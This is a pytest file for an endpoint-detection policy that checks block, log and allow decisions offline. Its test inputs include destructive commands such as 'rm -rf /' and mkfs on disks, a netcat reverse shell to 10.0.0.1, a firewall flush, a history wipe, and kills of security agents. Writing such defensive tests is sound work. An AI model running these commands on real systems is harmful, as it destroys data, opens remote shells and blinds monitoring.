"""The default policy template (templates/policy.yaml.j2) and the agent unit template.

Corpus lines are never executed: they are split into the execs a shell would make
(tests/corpus_argv.py) and each exec is decided offline by the compiled bundle
(`edrfleet.policy.simulate`), cross-checked with `edrfleet.policy.reference_decide`.
Executables match by name only here (a stat that always fails), so results do not depend on
what is installed on the machine running the tests.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import jinja2
import pytest
import yaml

from edrfleet.policy import (
    Decision,
    compile_policy,
    load_policy_text,
    reference_decide,
    simulate,
)
from tests.corpora import CORPUS
from tests.corpus_argv import exec_argvs

REPO = Path(__file__).resolve().parents[3]
TEMPLATES = REPO / "templates"
DATA = Path(__file__).resolve().parents[1] / "data" / "default_policy"

needs_corpus = pytest.mark.skipif(
    not (CORPUS / "benign.jsonl").is_file(),
    reason=f"test corpora not found at {CORPUS} (optional; docs/corpora.md says what they are)",
)


# --- helpers ----------------------------------------------------------------------------------
def render(name: str = "policy.yaml.j2", *, trim_blocks: bool = False,
           lstrip_blocks: bool = False, **variables: Any) -> str:
    env = jinja2.Environment(
        loader=jinja2.FileSystemLoader(str(TEMPLATES)), undefined=jinja2.StrictUndefined,
        keep_trailing_newline=True, trim_blocks=trim_blocks, lstrip_blocks=lstrip_blocks)
    return env.get_template(name).render(**variables)


def _no_stat(path: bytes) -> os.stat_result:
    raise FileNotFoundError(path)


class Judge:
    """Compiled default policy; decides argvs and corpus lines offline."""

    def __init__(self, text: str) -> None:
        self.policy = load_policy_text(text, "policy.yaml")
        self.bundle = compile_policy(self.policy)
        self._memo: dict[tuple[str, ...], Decision] = {}

    def argv(self, argv: list[str]) -> Decision:
        key = tuple(argv)
        if key not in self._memo:
            got = simulate(self.bundle, argv, stat=_no_stat)
            want = reference_decide(self.policy, argv, stat=_no_stat)
            assert got == want, f"simulator and reference disagree on {argv!r}: {got} != {want}"
            self._memo[key] = got
        return self._memo[key]

    def line(self, line: str) -> list[tuple[list[str], Decision]]:
        return [(argv, self.argv(argv)) for argv in exec_argvs(line)]

    def blocked(self, line: str) -> list[tuple[list[str], Decision]]:
        return [(a, d) for a, d in self.line(line) if d.action == "block"]


def judge(**variables: Any) -> Judge:
    return Judge(render(**variables))


@cache
def default() -> Judge:
    return judge()


def table(name: str, with_rule: bool) -> list[tuple[str | None, str]]:
    rows: list[tuple[str | None, str]] = []
    for raw in (DATA / name).read_text(encoding="utf-8").splitlines():
        if not raw.strip() or raw.startswith("#"):
            continue
        if with_rule:
            rule, command = raw.split(None, 1)
            rows.append((rule, command))
        else:
            rows.append((None, raw))
    return rows


def corpus_rows(name: str) -> Iterator[dict[str, Any]]:
    with (CORPUS / name).open(encoding="utf-8") as fh:
        for raw in fh:
            if raw.strip():
                yield json.loads(raw)


def _short(text: str) -> str:
    return text.replace("\n", " ⏎ ")[:160]


# --- rendering --------------------------------------------------------------------------------
def test_policy_template_renders_with_no_variables_under_strict_undefined() -> None:
    text = render()
    doc = yaml.safe_load(text)
    assert doc["version"] == 1
    assert doc["mode"] == "enforce"
    assert "scope" not in doc
    assert text.startswith("# ")  # the ansible_managed-style header


def test_policy_template_output_does_not_depend_on_trim_or_lstrip_blocks() -> None:
    variables = {"edrfleet_scope_cgroups": ["/edrfleet-lab/web1"],
                 "edrfleet_exceptions": [{"id": "allow-x", "match": {"executable": ["x"]}}],
                 "edrfleet_extra_rules": [{"id": "y", "description": "d", "severity": "low",
                                           "action": "log", "match": {"executable": ["y"]}}]}
    for vs in ({}, variables):
        texts = {render(trim_blocks=t, lstrip_blocks=lb, **vs)
                 for t in (False, True) for lb in (False, True)}
        assert len(texts) == 1, "rendering differs between Jinja whitespace settings"


def test_default_policy_loads_and_compiles() -> None:
    j = default()
    assert j.policy.mode == "enforce"
    assert j.policy.scope_cgroups == ()
    assert len(j.bundle["rules"]) == len(j.policy.rules) > 50


def test_every_default_rule_has_description_severity_and_a_mitre_tag() -> None:
    ids = [r.id for r in default().policy.rules]
    assert len(ids) == len(set(ids))
    for rule in default().policy.rules:
        assert rule.description.strip(), rule.id
        assert rule.severity in ("low", "medium", "high", "critical"), rule.id
        assert any(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in rule.tags), rule.id
        assert rule.action in ("block", "log"), rule.id


def test_default_policy_has_no_wildcard_rule() -> None:
    """A rule naming no executable runs on every exec and, with limits.unscanned=block, would
    block every over-long command line; the default policy names executables everywhere, but
    for the fileless rule, whose group runs only for fileless execs."""
    assert all(r.executables or r.fileless for r in default().policy.rules)
    assert default().bundle["executables"]["wildcard"] == []
    fileless = [r.id for r in default().policy.rules if r.fileless]
    assert fileless == ["fileless-exec"]
    assert len(default().bundle["executables"]["fileless"]) == 1


# --- tables of canonical attacks and look-alikes ---------------------------------------------
@pytest.mark.parametrize(("rule", "command"), table("must_block.txt", True),
                         ids=lambda v: str(v)[:60])
def test_attack_command_line_is_blocked(rule: str, command: str) -> None:
    decisions = default().line(command)
    assert any(d.action == "block" and rule in d.rules for _, d in decisions), (
        f"{command!r} not blocked by {rule}: {[(a, d.action, d.rules) for a, d in decisions]}")


@pytest.mark.parametrize("command", [c for _, c in table("must_allow.txt", False)],
                         ids=lambda v: str(v)[:60])
def test_look_alike_command_line_is_not_blocked(command: str) -> None:
    assert default().blocked(command) == []


@pytest.mark.parametrize(("rule", "command"), table("must_log.txt", True),
                         ids=lambda v: str(v)[:60])
def test_risky_command_line_is_logged_not_blocked(rule: str, command: str) -> None:
    decisions = default().line(command)
    assert not [d for _, d in decisions if d.action == "block"]
    assert any(d.action == "log" and d.rule == rule for _, d in decisions), (
        f"{command!r} not logged by {rule}: {[(a, d.action, d.rules) for a, d in decisions]}")


def test_a_block_decision_comes_from_the_direct_exec_not_only_from_the_shell() -> None:
    # rm -rf / typed in an interactive shell is one exec: rm itself must be blocked.
    assert default().argv(["rm", "-rf", "/"]).rule == "rm-recursive-root"
    assert default().argv(["/usr/sbin/mkfs.ext4", "/dev/sda1"]).rule == "mkfs-block-device"
    assert default().argv(["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]).rule == "netcat-exec"


# --- the benign corpus -------------------------------------------------------------------------
@needs_corpus
def test_no_benign_corpus_line_is_blocked() -> None:
    false_blocks = []
    for row in corpus_rows("benign.jsonl"):
        if row["label"] == "benign":
            hits = default().blocked(row["command"])
            if hits:
                false_blocks.append(f"{_short(row['command'])}  <- {hits[0][1].rule}")
    assert not false_blocks, "benign lines blocked:\n" + "\n".join(false_blocks)


@needs_corpus
def test_benign_risky_corpus_lines_are_logged_or_allowed_never_blocked(
        capsys: pytest.CaptureFixture[str]) -> None:
    counts = {"block": 0, "log": 0, "allow": 0}
    blocked = []
    for row in corpus_rows("benign.jsonl"):
        if row["label"] != "benign_risky":
            continue
        actions = {d.action for _, d in default().line(row["command"])}
        action = next(a for a in ("block", "log", "allow") if a in actions)
        counts[action] += 1
        if action == "block":
            blocked.append(_short(row["command"]))
    with capsys.disabled():
        print(f"\nbenign_risky: blocked {counts['block']}, logged {counts['log']}, "
              f"allowed {counts['allow']}")
    assert not blocked, "benign_risky lines blocked:\n" + "\n".join(blocked)


# --- per-host variables -------------------------------------------------------------------------
def test_monitor_mode_keeps_the_rules_and_changes_only_the_mode() -> None:
    j = judge(edrfleet_mode="monitor")
    assert j.policy.mode == "monitor" and j.bundle["mode"] == "monitor"
    assert len(j.policy.rules) == len(default().policy.rules)
    assert j.argv(["rm", "-rf", "/"]).action == "block"  # reported as would_block by the agent


def test_scope_cgroups_reach_the_bundle() -> None:
    j = judge(edrfleet_scope_cgroups=["/edrfleet-lab/web1", "/edrfleet-lab/web2"])
    assert j.bundle["scope"]["cgroups"] == ["/edrfleet-lab/web1", "/edrfleet-lab/web2"]


def test_extra_rules_are_appended_and_enforced() -> None:
    extra = [{"id": "block-xmrig", "description": "crypto miner", "severity": "high",
              "action": "block", "tags": ["T1496"],
              "match": {"executable": ["xmrig"]}},
             {"id": "log-tcpdump", "description": "sniffer", "severity": "low",
              "action": "log", "match": {"executable": ["tcpdump"],
                                         "args": [{"regex": "^-w"}]}}]
    j = judge(edrfleet_extra_rules=extra)
    assert [r.id for r in j.policy.rules[-2:]] == ["block-xmrig", "log-tcpdump"]
    assert j.argv(["xmrig", "-o", "pool:3333"]).rule == "block-xmrig"
    assert j.argv(["tcpdump", "-w", "/tmp/x.pcap"]).action == "log"


def test_exceptions_allow_and_win_over_default_blocks() -> None:
    exceptions = [{"id": "provision-data-disk", "description": "cloud-init formats /dev/sdb",
                   "match": {"executable": ["mkfs.ext4"], "args": [{"any": ["/dev/sdb"]}]}}]
    j = judge(edrfleet_exceptions=exceptions)
    rule = next(r for r in j.policy.rules if r.id == "provision-data-disk")
    assert rule.action == "allow" and rule.severity == "low"
    d = j.argv(["mkfs.ext4", "/dev/sdb"])
    assert (d.action, d.rule) == ("allow", "provision-data-disk")
    assert "mkfs-block-device" in d.rules
    assert j.argv(["mkfs.ext4", "/dev/sda1"]).action == "block"


def test_an_exception_cannot_be_turned_into_a_block() -> None:
    j = judge(edrfleet_exceptions=[{"id": "x", "action": "block",
                                    "match": {"executable": ["true"]}}])
    assert j.argv(["true"]).action == "allow"


def test_disabled_rules_are_dropped() -> None:
    j = judge(edrfleet_disabled_rules=["mkfs-block-device", "iptables-flush-all"],
              edrfleet_extra_rules=[{"id": "gone", "description": "d", "severity": "low",
                                     "action": "block", "match": {"executable": ["x"]}}],
              edrfleet_exceptions=[{"id": "gone-too", "match": {"executable": ["y"]}}])
    ids = {r.id for r in j.policy.rules}
    assert "mkfs-block-device" not in ids and "iptables-flush-all" not in ids
    assert j.argv(["mkfs.ext4", "/dev/sda1"]).action == "allow"
    assert j.argv(["iptables", "-F"]).action == "allow"
    assert j.argv(["rm", "-rf", "/"]).action == "block"
    j2 = judge(edrfleet_disabled_rules=["gone", "gone-too"],
               edrfleet_extra_rules=[{"id": "gone", "description": "d", "severity": "low",
                                      "action": "block", "match": {"executable": ["x"]}}],
               edrfleet_exceptions=[{"id": "gone-too", "match": {"executable": ["y"]}}])
    assert not {"gone", "gone-too"} & {r.id for r in j2.policy.rules}


def test_log_risky_false_drops_every_log_rule() -> None:
    j = judge(edrfleet_log_risky=False)
    assert {r.action for r in j.policy.rules} == {"block"}
    assert j.argv(["setenforce", "0"]).action == "allow"
    assert j.argv(["rm", "-rf", "/"]).action == "block"


def test_strict_promotes_the_risky_shapes_to_block() -> None:
    j = judge(edrfleet_strict=True)
    assert j.argv(["setenforce", "0"]).rule == "selinux-permissive"
    assert j.argv(["setenforce", "0"]).action == "block"
    assert j.argv(["dd", "if=image.iso", "of=/dev/sdb"]).action == "block"
    assert any(d.action == "block" for _, d in j.line("export HISTSIZE=0"))
    # pure housekeeping stays logged
    assert j.argv(["journalctl", "--vacuum-size=500M"]).action == "log"


def test_unscanned_defaults_to_block_and_is_a_host_variable() -> None:
    assert default().bundle["unscanned"] == "block"
    assert judge(edrfleet_unscanned="allow").bundle["unscanned"] == "allow"


def test_protected_agents_and_services_come_from_the_host_variables() -> None:
    j = judge(edrfleet_protected_agents=["acme-edr"], edrfleet_protected_services=["acme-edr"])
    assert j.argv(["pkill", "acme-edr"]).action == "block"
    assert j.argv(["systemctl", "stop", "acme-edr.service"]).action == "block"
    assert j.argv(["pkill", "auditd"]).action == "allow"
    assert j.argv(["systemctl", "stop", "auditd"]).action == "allow"


def test_default_protected_agents_include_the_usual_security_tools() -> None:
    for name in ("edrfleet", "auditd", "falco", "osqueryd", "wazuh-agentd", "sysmon", "clamd",
                 "rsyslogd", "systemd-journald", "tetragon"):
        assert default().argv(["killall", name]).action == "block", name
        assert default().argv(["killall", "-HUP", name]).action == "allow", name


# --- the systemd unit ---------------------------------------------------------------------------
def _unit(**variables: Any) -> dict[str, list[str]]:
    text = render("edrfleet-agent.service.j2", **variables)
    section = ""
    out: dict[str, list[str]] = {}
    for line in text.splitlines():
        if line.startswith("[") and line.endswith("]"):
            section = line[1:-1]
        elif line and not line.startswith("#"):
            out.setdefault(section, []).append(line)
    return out


def test_unit_renders_with_no_variables() -> None:
    text = render("edrfleet-agent.service.j2")
    assert text.startswith("# ")
    unit = _unit()
    svc = unit["Service"]
    assert ("ExecStart=/usr/bin/python3 /opt/edrfleet/current/agent.pyz run --policy "
            "/etc/edrfleet/policy.json --spool /var/lib/edrfleet "
            "--bpf-dir /opt/edrfleet/current/bpf --outputs /etc/edrfleet/outputs.json") in svc
    for line in ("ExecReload=/bin/kill -HUP $MAINPID", "Restart=always", "RestartSec=1",
                 "KillSignal=SIGTERM", "TimeoutStopSec=10"):
        assert line in svc
    assert unit["Install"] == ["WantedBy=multi-user.target"]


def test_unit_hardening_keeps_bpf_working() -> None:
    svc = _unit()["Service"]
    caps = next(x for x in svc if x.startswith("CapabilityBoundingSet=")).split("=", 1)[1]
    assert {"CAP_SYS_ADMIN", "CAP_BPF", "CAP_PERFMON", "CAP_KILL"} <= set(caps.split())
    for forbidden in ("ProtectKernelTunables=yes", "ProtectKernelModules=yes",
                      "ProtectSystem=strict", "PrivateDevices=yes"):
        assert forbidden not in svc
    assert "ReadWritePaths=-/var/lib/edrfleet" in svc


def test_unit_takes_paths_from_host_variables() -> None:
    svc = _unit(edrfleet_python="/opt/py/bin/python3", edrfleet_install_dir="/srv/edr",
                edrfleet_policy_path="/srv/p.json", edrfleet_spool_dir="/srv/spool")["Service"]
    assert ("ExecStart=/opt/py/bin/python3 /srv/edr/current/agent.pyz run --policy /srv/p.json "
            "--spool /srv/spool --bpf-dir /srv/edr/current/bpf "
            "--outputs /etc/edrfleet/outputs.json") in svc
    assert "ReadWritePaths=-/srv/spool" in svc


def test_unit_template_output_does_not_depend_on_trim_or_lstrip_blocks() -> None:
    texts = {render("edrfleet-agent.service.j2", trim_blocks=t, lstrip_blocks=lb)
             for t in (False, True) for lb in (False, True)}
    assert len(texts) == 1


@pytest.mark.skipif(shutil.which("systemd-analyze") is None, reason="no systemd-analyze")
def test_unit_passes_systemd_analyze_verify(tmp_path: Path) -> None:
    unit = tmp_path / "edrfleet-agent.service"
    unit.write_text(render("edrfleet-agent.service.j2"))
    proc = subprocess.run(["systemd-analyze", "verify", str(unit)], capture_output=True,
                          text=True, timeout=60)
    about_us = [ln for ln in (proc.stdout + proc.stderr).splitlines()
                if "edrfleet-agent.service" in ln]
    assert not about_us, "\n".join(about_us)


# --- coverage of the attack corpora (the README table; bench/policy_coverage.py lists misses) --
# category -> (blocked at least, lines): fails if a category regresses; raise it when it grows.
ATTACK_COVERAGE = {
    "destructive": (5, 5),
    "reverse-shell": (56, 56),
    "bind-shell": (20, 20),
    "log-and-history-wiping": (25, 29),
    "security-tool-disabling": (22, 24),
}


@needs_corpus
def test_default_policy_blocks_the_attack_corpora_per_category(
        capsys: pytest.CaptureFixture[str]) -> None:
    from edrfleet.policy.corpus import read_corpus, run_corpus

    lines = [ln for name in ("atomic_linux.jsonl", "gtfobins.jsonl")
             for ln in read_corpus(CORPUS / name) if ln.category in ATTACK_COVERAGE]
    report = run_corpus(default().bundle, lines)
    got = {cat: (report.categories[cat].block, report.categories[cat].total)
           for cat in ATTACK_COVERAGE}
    blocked = sum(b for b, _ in got.values())
    total = sum(t for _, t in got.values())
    with capsys.disabled():
        print(f"\nattack corpora blocked: {blocked}/{total} ({100 * blocked / total:.1f} %) "
              f"{got}")
    for cat, (want, lines_total) in ATTACK_COVERAGE.items():
        assert got[cat][1] == lines_total, f"{cat}: corpus changed ({got[cat][1]} lines)"
        assert got[cat][0] >= want, f"{cat}: {got[cat][0]} blocked, was {want}"
    assert blocked >= 0.95 * total
